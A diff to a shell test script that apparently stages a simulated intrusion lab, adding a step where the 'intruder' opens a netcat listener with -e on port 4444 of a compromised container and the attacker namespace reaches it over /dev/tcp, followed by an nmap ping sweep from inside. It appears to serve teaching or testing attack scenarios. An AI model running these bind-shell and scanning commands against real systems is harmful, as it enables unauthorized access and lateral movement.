@@ -182,7 +182,17 @@ expect "root's password is guessed at $entered" grep -q '^root@' "$work/login"
 expect "the container has the address that was attacked" grep -q " $entered/" "$work/login"
 expect "the container sees the attacker's own address" grep -q "peer $attacker" "$work/login"
 
-title "7. From inside: a sweep, a scan, and the next host"
+title "7. From inside: a listener, a sweep, a scan, and the next host"
+shell "$entered" 'setsid nc -l -p 4444 -e /bin/hostname </dev/null >/dev/null 2>&1 &' || true
+# shellcheck disable=SC2016
+from "$ns_attacker" bash -c '
+    # It may take a moment to listen.
+    for _ in $(seq 20); do
+        if exec 3<>"/dev/tcp/$1/4444"; then cat <&3; exit; fi
+        sleep 0.1
+    done' - "$entered" >"$work/listener" 2>/dev/null || true
+say "port 4444 of $entered, opened by the intruder, says: $(head -n 1 "$work/listener")"
+expect "what the intruder opens is reachable from outside" test "$(cat "$work/listener")" = shells-04
 shell "$entered" 'nmap -n -sn 10.10.0.0/24' >"$work/inside" 2>&1 || true
 inside=$(grep -c '^Host is up' "$work/inside" || true)
 say "nmap -sn 10.10.0.0/24: $inside hosts: $(sed -n 's/^Nmap scan report for 10.10.0//p' "$work/inside" | paste -sd ' ')"
